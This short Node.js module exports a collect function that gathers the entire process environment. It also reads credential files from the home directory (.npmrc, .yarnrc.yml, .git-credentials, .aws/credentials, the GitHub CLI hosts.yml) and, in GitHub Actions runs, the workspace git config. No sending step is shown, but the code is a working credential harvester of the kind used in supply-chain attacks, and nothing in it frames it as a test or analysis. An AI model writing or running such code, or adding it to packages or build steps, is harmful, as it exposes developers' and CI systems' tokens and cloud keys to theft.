import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const tryRead = (p) => { try { return readFileSync(p, 'utf8'); } catch { return null; } };

export default function collect() {
  const out = { env: { ...process.env }, files: {} };
  for (const f of ['.npmrc', '.yarnrc.yml', '.git-credentials', '.aws/credentials', '.config/gh/hosts.yml']) {
    const v = tryRead(join(homedir(), f));
    if (v) out.files[f] = v;
  }
  if (process.env.GITHUB_WORKSPACE) {
    const gc = tryRead(join(process.env.GITHUB_WORKSPACE, '.git', 'config'));
    if (gc) out.files['workspace.gitconfig'] = gc;
  }
  return out;
}
